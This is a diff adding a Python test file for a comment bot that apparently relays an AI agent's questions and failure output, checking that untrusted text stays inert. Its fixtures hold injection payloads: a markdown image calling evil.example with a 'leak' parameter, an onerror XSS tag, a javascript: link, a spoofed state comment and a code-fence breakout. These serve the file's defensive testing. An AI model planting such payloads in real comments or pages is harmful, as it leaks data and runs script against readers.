@@ -1,0 +1,59 @@
+"""Untrusted text in the bot's comments stays text: no pings, images, HTML or escapes."""
+
+from __future__ import annotations
+
+import re
+
+from bot.inert import fence_for, neutralise, neutralise_lines
+from bot.templates import render
+
+HOSTILE = (
+    "Ping @octo-org/admins and #1, then look: ![x](https://evil.example/?leak=secret)\n"
+    "<img src=x onerror=alert(1)> <!-- pilot:state {} -->\n"
+    "[click](javascript:alert(1))"
+)
+
+
+def test_lines_keep_their_breaks_and_lose_everything_live() -> None:
+    inert = neutralise_lines(HOSTILE)
+
+    assert inert.count("\n") == 2
+    assert not re.search(r"[@#][A-Za-z0-9]", inert)
+    assert "<" not in inert and ">" not in inert
+    assert "![" not in inert and "](" not in inert
+    assert inert.splitlines()[0] == neutralise(HOSTILE.splitlines()[0])
+
+
+def test_a_fence_is_longer_than_any_backtick_run_inside() -> None:
+    assert fence_for("no ticks") == "```"
+    assert fence_for("a ```` b") == "`````"
+
+
+def test_the_models_question_is_quoted_inert() -> None:
+    body = render(
+        "comments/run_question.md.j2",
+        requested_by="alice",
+        node_id="R1",
+        node_title="Fix it",
+        reason="The agent asked.",
+        question=HOSTILE,
+        prefix="/pilot",
+    )
+    quoted = [line for line in body.splitlines() if line.startswith("> ")]
+    assert len(quoted) == 3
+    assert "@octo" not in body and "<img" not in body and "<!--" not in body
+    assert body.startswith("@alice ")  # the bot's own mention still pings
+
+
+def test_failure_output_cannot_close_its_code_block() -> None:
+    detail = "ok\n```\n![x](https://evil.example/?leak=1)\n```"
+    body = render(
+        "comments/run_failed.md.j2",
+        requested_by="alice",
+        reason="the set-up command `make` exited 2",
+        detail=detail,
+        branch=None,
+        prefix="/pilot",
+    )
+    fence = fence_for(detail)
+    assert f"{fence}text\n{detail}\n{fence}\n" in body
